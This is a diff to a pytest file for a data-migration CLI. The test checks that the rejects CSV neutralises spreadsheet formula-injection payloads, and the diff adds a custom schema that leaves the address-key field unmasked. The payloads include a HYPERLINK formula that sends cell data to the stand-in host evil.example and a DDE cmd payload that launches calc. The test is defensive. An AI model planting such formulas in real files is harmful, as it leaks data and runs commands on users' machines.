@@ -13,7 +13,7 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from tests.conftest import run_cli
+from tests.conftest import DATA, run_cli
 from tests.hostile import builders as b
 from tests.hostile.conftest import refused
 
@@ -53,10 +53,19 @@ def test_control_characters_are_shown_not_fatal(workdir: Path, name: str, header
 @pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
                                      "-2+3", "@SUM(1+1)", "\t=1+1", "＝1+1"])
 def test_rejects_file_cannot_run_a_formula(workdir: Path, payload: str) -> None:
+    # The shipped schema masks 宛名番号; an organisation's own schema that does not puts the key in the rejects.
+    own = workdir / "schemas"
+    own.mkdir()
+    shipped = (DATA / "schemas" / "standard" / "001_juki.yaml").read_text(encoding="utf-8")
+    key_line = "- {name: 宛名番号, type: string, max_length: 15, required: true, charset: digits, checks: [m11w27]"
+    assert key_line + ", sensitive: true}" in shipped
+    (own / "001_juki.yaml").write_text(shipped.replace(key_line + ", sensitive: true}", key_line + "}"),
+                                       encoding="utf-8")
     quoted = '"' + payload.replace('"', '""') + '"'
     extract = _extract(workdir, {"000000000010014,": quoted + ","})
     out = workdir / "out"
-    run_cli("mapping", "run", str(b.MAPPING_XLSX), str(extract), "--out", str(out), "--no-store", expect=1)
+    run_cli("mapping", "run", str(b.MAPPING_XLSX), str(extract), "--out", str(out), "--no-store", expect=1,
+            env={"MIGRATOR_SCHEMAS": str(own)})
     with (out / "juki-rdb-to-001-jumin.rejects.csv").open(encoding="utf-8", newline="") as fh:
         cells = [c for row in csv.reader(fh) for c in row]
     shown = payload.strip()  # the reader trims the key
